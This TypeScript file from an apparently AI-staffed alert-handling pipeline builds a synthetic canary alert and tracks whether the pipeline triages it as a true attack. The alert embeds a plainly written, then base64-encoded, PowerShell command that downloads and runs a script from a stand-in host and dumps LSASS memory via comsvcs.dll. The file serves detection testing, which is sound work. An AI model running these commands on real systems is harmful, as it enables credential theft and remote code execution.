/**
 * A canary: an alert that hatrack makes, so plainly an attack that only one verdict is sane, and what became of it. Pure.
 * It goes the way of every alert up to a card, which is for nobody.
 */
import type { Alert } from "../events/alert-events.ts";
import { isEvent, type AnyEvent } from "../events/envelope.ts";
import { caseIdOf, naturalId, ownSource } from "../events/ids.ts";

/** From a firing of the schedule to the card. */
export const canaryMinutes = 30;

/** LSASS dumped and a script fetched from a name that nobody can own (RFC 2606). */
const encoded = Buffer.from(
  "IEX (New-Object Net.WebClient).DownloadString('http://payload.example/a.ps1'); " +
    "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\lsass.dmp full",
  "utf16le",
).toString("base64");

/** @param window what makes it this one: the firing's local time */
export function canaryAlert(window: string, time: string): Alert {
  const sourceId = `check:${naturalId("canary", window)}`;
  return {
    source: ownSource,
    sourceId,
    caseId: caseIdOf({ source: ownSource, sourceId }),
    rule: { id: "check", name: "Credential dumping from LSASS by encoded PowerShell" },
    title: "Encoded PowerShell fetched a script and dumped LSASS",
    description:
      "powershell.exe, started by winword.exe, ran an encoded command that fetched a script and dumped the memory of lsass.exe. Nothing was blocked.",
    severity: "critical",
    time,
    host: { name: "HT-WS-001", os: "Windows 11" },
    user: { name: "h.atrack" },
    process: {
      commandLine: `powershell.exe -NoP -W Hidden -enc ${encoded}`,
      fileName: "powershell.exe",
      parent: "winword.exe",
    },
    tactic: "Credential Access",
    techniques: ["T1003.001", "T1059.001"],
    disposition: "detected",
    indicators: [],
    raw: {},
  };
}

/** What became of it so far. `stoppedAt`: who spoke last, or what was wrong with what they said. */
export type CanaryState =
  { readonly state: "passed" } | { readonly state: "on its way" | "absurd"; readonly stoppedAt: string };

/** @param events the canary's case, in log order */
export function canaryState(events: readonly AnyEvent[]): CanaryState {
  const absurd = events.map(absurdity).find((why) => why !== undefined);
  if (absurd !== undefined) return { state: "absurd", stoppedAt: absurd };
  const proposed = events.some((event) => isEvent(event, "action.proposed"));
  const shown = events.some((event) => isEvent(event, "message.posted") && event.data.kind === "gate");
  if (proposed && shown) return { state: "passed" };
  return { state: "on its way", stoppedAt: lastWord(events) };
}

function absurdity(event: AnyEvent): string | undefined {
  if (isEvent(event, "alert.triaged", "case.investigated") && event.data.verdict !== "true_positive") {
    return `${event.source}, which called an attack ${event.data.verdict.replaceAll("_", " ")}`;
  }
  return isEvent(event, "role.failed") ? `${event.data.role}, which failed: ${event.data.reason}` : undefined;
}

const spoken = ["alert.received", "alert.triaged", "case.investigated", "response.planned"] as const;
const cards = ["action.proposed", "handoff.requested"] as const;

function lastWord(events: readonly AnyEvent[]): string {
  const last = events.findLast((event) => isEvent(event, ...spoken, ...cards));
  if (last === undefined) return "its alert, which is not on the log";
  const what = { "/roles/sentinel": "Sentinel", "/roles/tier2": "Tier 2", "/roles/ir-lead": "the IR Lead" };
  const by = Object.entries(what).find(([source]) => source === last.source)?.[1] ?? last.source;
  return `${last.type}, said by ${by}`;
}
